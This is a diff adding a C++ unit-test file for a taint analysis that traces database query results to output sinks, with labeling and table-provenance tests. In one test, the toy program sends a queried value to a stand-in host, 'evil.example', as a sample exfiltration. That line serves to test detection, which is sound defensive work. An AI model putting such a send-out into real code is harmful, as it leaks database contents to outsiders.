@@ -1,0 +1,180 @@
+#include "analysis/taint.h"
+
+#include <gtest/gtest.h>
+
+#include "analysis/labeling.h"
+#include "prog/program.h"
+
+namespace adprom::analysis {
+namespace {
+
+util::Result<TaintResult> TaintOf(const std::string& source) {
+  auto program = prog::ParseProgram(source);
+  if (!program.ok()) return program.status();
+  return RunTaintAnalysis(*program, TaintConfig::Default());
+}
+
+TEST(TaintTest, DirectFlowFromQueryToPrint) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT * FROM accounts");
+  print(r);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
+}
+
+TEST(TaintTest, UntaintedPrintIsNotLabeled) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT * FROM accounts");
+  print("static text");
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_TRUE(taint->labeled_sinks.empty());
+}
+
+TEST(TaintTest, FlowThroughVariablesAndConcatenation) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT name FROM users");
+  var v = db_getvalue(r, 0, 0);
+  var msg = "user: " + v;
+  print(msg);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
+}
+
+TEST(TaintTest, InterproceduralThroughArgument) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT * FROM t");
+  show(r);
+}
+fn show(data) {
+  print(data);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
+}
+
+TEST(TaintTest, InterproceduralThroughReturn) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var v = fetch();
+  print(v);
+}
+fn fetch() {
+  var r = db_query("SELECT * FROM t");
+  return db_getvalue(r, 0, 0);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
+}
+
+TEST(TaintTest, WriteFileSinkAndSourceMapping) {
+  auto program = prog::ParseProgram(R"(
+fn main() {
+  var r = db_query("SELECT ssn FROM employees WHERE id = 1");
+  write_file("out.txt", db_getvalue(r, 0, 0));
+}
+)");
+  ASSERT_TRUE(program.ok());
+  auto taint = RunTaintAnalysis(*program, TaintConfig::Default());
+  ASSERT_TRUE(taint.ok());
+  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
+  const auto& [sink, sources] = *taint->labeled_sinks.begin();
+  // Statically resolved table provenance of the DDG edge.
+  const auto tables = StaticSourceTables(*program, sources);
+  ASSERT_EQ(tables.size(), 1u);
+  EXPECT_EQ(tables[0], "employees");
+}
+
+TEST(TaintTest, NoImplicitFlowThroughConditions) {
+  // Branching on TD does not taint what is printed inside the branch.
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT COUNT(*) FROM t");
+  var n = db_ntuples(r);
+  if (n > 5) { print("many rows"); }
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_TRUE(taint->labeled_sinks.empty());
+}
+
+TEST(TaintTest, ScanInputIsNotTargetedData) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var s = scan();
+  print(s);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_TRUE(taint->labeled_sinks.empty());
+}
+
+TEST(TaintTest, MultipleSinksAndSharedSource) {
+  auto taint = TaintOf(R"(
+fn main() {
+  var r = db_query("SELECT * FROM t");
+  var v = db_getvalue(r, 0, 0);
+  print(v);
+  write_file("f.txt", v);
+  send_net("evil.example", v);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 3u);
+}
+
+TEST(TaintTest, FixpointThroughMutualFunctions) {
+  // Taint flows a -> b -> a's variable across multiple passes.
+  auto taint = TaintOf(R"(
+fn main() {
+  var v = a();
+  print(v);
+}
+fn a() {
+  return b();
+}
+fn b() {
+  var r = db_query("SELECT * FROM deep");
+  return db_getvalue(r, 0, 0);
+}
+)");
+  ASSERT_TRUE(taint.ok());
+  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
+}
+
+TEST(LabelingTest, LabeledObservableFormat) {
+  EXPECT_EQ(LabeledObservable("print", "main", 12), "print_Qmain_12");
+  EXPECT_EQ(LabeledObservable("write_file", "f", 3), "write_file_Qf_3");
+}
+
+TEST(LabelingTest, ExtractsTablesFromMultipleKeywords) {
+  auto program = prog::ParseProgram(R"src(
+fn main() {
+  var r1 = db_query("SELECT * FROM alpha");
+  var r2 = db_query("INSERT INTO beta VALUES (1)");
+  var v = db_getvalue(r1, 0, 0) + db_getvalue(r2, 0, 0);
+  print(v);
+}
+)src");
+  ASSERT_TRUE(program.ok());
+  auto taint = RunTaintAnalysis(*program, TaintConfig::Default());
+  ASSERT_TRUE(taint.ok());
+  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
+  const auto tables =
+      StaticSourceTables(*program, taint->labeled_sinks.begin()->second);
+  EXPECT_EQ(tables.size(), 2u);
+}
+
+}  // namespace
+}  // namespace adprom::analysis
